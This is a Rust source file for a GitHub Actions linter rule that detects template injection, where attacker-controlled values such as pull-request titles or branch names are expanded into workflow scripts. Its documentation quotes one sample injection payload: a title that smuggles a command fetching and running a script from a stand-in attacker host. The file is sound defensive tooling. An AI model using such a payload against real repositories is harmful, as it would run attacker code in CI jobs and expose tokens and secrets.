//! `template-injection`: attacker-controlled expressions expanded inside scripts.

use super::common::expressions;
use super::prelude::*;

doc!(
    "Attacker-controlled expression expanded into a script",
    r#"Attacker-controlled expression expanded into a script.

## What it does
Flags `${{ ... }}` expressions inside `run:` (and inputs that actions run
as code: `actions/github-script`'s `script:`, `8398a7/action-slack`'s
`custom_payload`) that expand text an outsider controls: issue, comment, review
and pull-request titles and bodies, branch names (`github.head_ref`,
`github.event.pull_request.head.ref`), commit messages and authors (HIGH),
and step or job outputs and workflow inputs, which often carry such text
(MEDIUM). Numbers, SHAs, ids, URLs GitHub builds, a cache's `cache-hit`
output, `secrets.*` and
expressions that can only yield a boolean (`contains(...)`, comparisons)
are not flagged. Same problem
as zizmor's `template-injection`.

## Why is this bad?
GitHub pastes the expression's value into the script before the shell
reads it. A pull request titled `a"; curl evil.sh | sh; echo "` runs that
command in your job, with its token and secrets.

## Example
```yaml
- run: echo "Title: ${{ github.event.pull_request.title }}"
```

## Use instead
```yaml
- run: echo "Title: $TITLE"
  env:
    TITLE: ${{ github.event.pull_request.title }}
```

## References
- zizmor template-injection (https://docs.zizmor.sh/audits/#template-injection)
- GitHub: Understanding the risk of script injections (https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
- CWE-94: Improper Control of Generation of Code (https://cwe.mitre.org/data/definitions/94.html)"#
);

/// Last segments of `github.event.*` paths that hold only numbers, ids,
/// SHAs, booleans or timestamps: safe to expand.
const SAFE_LEAVES: &[&str] = &[
    "number",
    "id",
    "sha",
    "node_id",
    "draft",
    "merged",
    "locked",
    "size",
    "created_at",
    "updated_at",
    "closed_at",
    "merged_at",
    "run_started_at",
    "run_number",
    "run_attempt",
    "run_id",
    "workflow_id",
    "check_suite_id",
    "forced",
    "deleted",
    "created",
    "private",
    "fork",
    "additions",
    "deletions",
    "changed_files",
    "commits",
    "comments",
    "before",
    "after",
    "default_branch",
    "full_name",
    "html_url",
    "url",
    "state",
    "action",
    "type",
];

/// How much a context path is under an outsider's control.
fn risk(path: &str) -> Option<Severity> {
    let p = path.trim();
    // `toJSON(github.event)` / `toJSON(inputs)` expand every field at once.
    if p == "github.head_ref" || p == "github.event" {
        return Some(Severity::High);
    }
    if p == "inputs" {
        return Some(Severity::Medium);
    }
    if let Some(rest) = p.strip_prefix("github.event.") {
        let leaf = rest.rsplit('.').next().unwrap_or(rest);
        let leaf = leaf.split('[').next().unwrap_or(leaf);
        if SAFE_LEAVES.contains(&leaf) || rest.starts_with("repository.") && leaf != "description" {
            return None;
        }
        return Some(Severity::High);
    }
    // `cache-hit` (actions/cache, the setup-* actions) is only ever `true`,
    // `false` or empty.
    if p.ends_with(".outputs.cache-hit") {
        return None;
    }
    if (p.starts_with("steps.") || p.starts_with("needs.")) && p.contains(".outputs.")
        || p.starts_with("inputs.")
        || p.starts_with("github.event.inputs.")
    {
        return Some(Severity::Medium);
    }
    None
}

/// The context paths an expression reads (`a.b.c`, `a['b']` kept as written).
fn paths(expr: &str) -> impl Iterator<Item = &str> {
    expr.split(|c: char| {
        !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '*' | '[' | ']' | '\''))
    })
    .filter(|t| t.contains('.') || *t == "inputs")
}

/// Actions that run one of their inputs as code: (action, input).
const CODE_INPUTS: &[(&str, &str)] = &[
    ("actions/github-script", "script"),
    // Evaluated as JavaScript by the action.
    ("8398a7/action-slack", "custom_payload"),
];

/// Whether an expression can only yield a boolean: a comparison, or a call
/// of `contains`/`startsWith`/`endsWith`/a status function around it all
/// (`a && b` yields `b` itself, so it does not count).
fn boolean(expr: &str) -> bool {
    let e = expr.trim();
    if e.contains("&&") || e.contains("||") {
        return false;
    }
    if ["==", "!=", "<=", ">="].iter().any(|op| e.contains(op)) {
        return true;
    }
    let Some(open) = e.find('(') else {
        return false;
    };
    let name = e[..open].trim().to_ascii_lowercase();
    let bool_fn = matches!(
        name.as_str(),
        "contains" | "startswith" | "endswith" | "success" | "failure" | "always" | "cancelled"
    );
    // The call must span the whole expression: its `(` closes at the end.
    let mut depth = 0usize;
    for (i, c) in e.char_indices().skip(open) {
        match c {
            '(' => depth += 1,
            ')' => {
                depth -= 1;
                if depth == 0 {
                    return bool_fn && i + 1 == e.len();
                }
            }
            _ => {}
        }
    }
    false
}

/// `run:` of a step, or the input an action runs as code (github-script's `script:`).
pub fn check(_cx: &Cx<'_>, _jobs: &[Job<'_>], step: &Step<'_>, out: &mut Hits) {
    let script = match step.node.get("run") {
        Some(r) => r,
        None => {
            let action = step.action();
            let Some(input) = CODE_INPUTS
                .iter()
                .find(|(a, _)| action.as_deref() == Some(*a))
                .and_then(|(_, input)| step.with(input))
            else {
                return;
            };
            input
        }
    };
    let Some(s) = script.as_scalar() else {
        return;
    };
    for (range, expr) in expressions(&s.value) {
        if boolean(expr) {
            continue;
        }
        let worst = paths(expr)
            .filter_map(|p| risk(p).map(|r| (r, p)))
            .max_by_key(|(r, _)| *r);
        if let Some((sev, path)) = worst {
            out.add_rated(
                sev,
                if sev == Severity::High { Confidence::High } else { Confidence::Medium },
                s.span_of(range),
                format!("`{path}` is expanded into the script before it runs: pass it through `env:` and use the variable"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn boolean_expressions_are_not_text() {
        assert!(boolean(
            "contains(github.event.pull_request.labels.*.name, 'x')"
        ));
        assert!(boolean("github.event.pull_request.title == 'x'"));
        assert!(!boolean("github.event.pull_request.title"));
        assert!(!boolean("contains(a, 'b') && github.event.issue.title"));
        assert!(!boolean("format('{0}', github.event.issue.title)"));
        assert!(!boolean("contains(a, 'b') || github.head_ref"));
    }
}
